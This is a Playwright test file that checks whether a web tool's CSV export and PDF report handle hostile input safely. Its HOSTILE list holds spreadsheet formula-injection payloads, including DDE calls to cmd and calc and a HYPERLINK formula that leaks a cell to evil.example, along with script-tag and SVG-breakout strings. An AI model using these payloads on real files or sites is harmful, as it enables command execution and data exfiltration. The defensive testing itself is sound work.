/** Files a reader saves with names somebody else chose, opened again by programs that are no browser. */
import { readFile } from 'node:fs/promises';
import type { Download, Page } from '@playwright/test';
import { rowsFromCsv } from '../../src/circuit/compressor/cells.ts';
import { allAwake } from './support/islands.ts';
import { textOfPdf } from './support/pdf-text.ts';
import { expect, test } from './support/test.ts';

const HOSTILE = [
  '=cmd|x',
  '=HYPERLINK("http://evil.example?x="&A1,"ok")',
  '<script>alert(1)</script>',
  ']]>&amp;"\'</text><image href="http://evil.example/x.png"/>',
  '-1+1|calc',
  '@SUM(A1)',
] as const;

async function saved(page: Page, press: () => Promise<void>): Promise<string> {
  const waited: Promise<Download> = page.waitForEvent('download');
  await press();
  const download = await waited;
  return readFile(await download.path(), 'utf8');
}

test('a table from a link holds no cell a spreadsheet would run', async ({ page }) => {
  for (const name of HOSTILE) {
    await page.goto(`/tools/capteur-signal?${new URLSearchParams({ unitValue: name, signalType: '3' }).toString()}`);
    await allAwake(page);
    const csv = await saved(page, () => page.getByRole('button', { name: /CSV/ }).first().click());
    const cells = csv.replace('\ufeff', '').split(/\r\n|;|,/);
    expect(cells.filter((cell) => /^"?[=@]/.test(cell) || /^"?[+-](?![\d.,]+"?$)/.test(cell))).toEqual([]);
    // By our own reader it comes back as it was.
    expect(
      rowsFromCsv(csv)
        .flatMap((row) => row.cells)
        .some((cell) => cell.includes(name.slice(0, 6))),
    ).toBe(true);
  }
});

test('a printed report says what was typed at its head, whatever that is', async ({ page }) => {
  await page.goto('/simulation/circuit/rapport');
  await allAwake(page);
  const name = '<script>alert(1)</script>=cmd|x';
  await page.locator('input[name="report-customer"]').fill(name);
  await expect(page.locator('[data-report="ready"] header').first()).toContainText(name);
  const text = textOfPdf(await page.pdf({ preferCSSPageSize: true }));
  expect(text.replaceAll(/\s/g, '')).toContain(name);
});
